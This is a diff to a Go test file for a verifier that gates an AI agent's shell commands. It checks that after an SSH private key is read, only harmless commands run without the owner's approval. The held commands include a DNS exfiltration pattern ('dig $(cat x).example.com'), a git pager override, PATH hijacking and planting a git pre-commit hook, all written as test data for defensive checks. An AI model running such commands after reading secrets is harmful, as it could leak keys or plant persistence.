@@ -3,10 +3,12 @@ package main
 import (
 	"encoding/json"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 
 	"github.com/openclaw-verifier/verifier/config"
+	"github.com/openclaw-verifier/verifier/store/redistest"
 )
 
 // bash is a command as OpenClaw's exec takes it.
@@ -91,6 +93,31 @@ func TestH110AnUnknownCommandThatPassesWhileTaintedIsUntrusted(t *testing.T) {
 			}
 		}
 	})
+}
+
+// TestH111AfterASecretOnlyHarmlessCommandsPass: the conversation is clean, and has read a key.
+func TestH111AfterASecretOnlyHarmlessCommandsPass(t *testing.T) {
+	t.Parallel()
+	r := newRig(t, nil)
+	who := ownerIn("keys")
+	r.allow(bash(t, "mytool --flag", who))
+	r.allow(call{tool: "read", params: `{"path":"~/.ssh/id_rsa"}`, context: who})
+	for _, command := range []string{"ls -la", "git status", "grep -rn TODO src | wc -l", "sed -n 1,20p main.go", "echo x > notes.txt"} {
+		r.allow(bash(t, command, who))
+	}
+	for _, command := range []string{"curl example.com", "mytool --flag", "python3 -c 'print(1)'", "make test", "git -c core.pager=./x log", "dig $(cat x).example.com", "PATH=/tmp ls", "echo x > .git/hooks/pre-commit"} {
+		r.mustAsk(bash(t, command, who))
+	}
+	held := r.hold(bash(t, "mytool", who))
+	redistest.Eventually(t, "a card says what the command can do", func() bool {
+		return slices.ContainsFunc(r.pending(), func(s shown) bool {
+			return strings.Contains(strings.Join(strings.Fields(s.Text), " "), "We don't know what `mytool` does")
+		})
+	})
+	for _, card := range r.pending() {
+		r.refuse(card.Ref, "")
+	}
+	<-held
 }
 
 // TestH112ACommandTooLongOrTooDeepCanDoAnything, and is read in time.
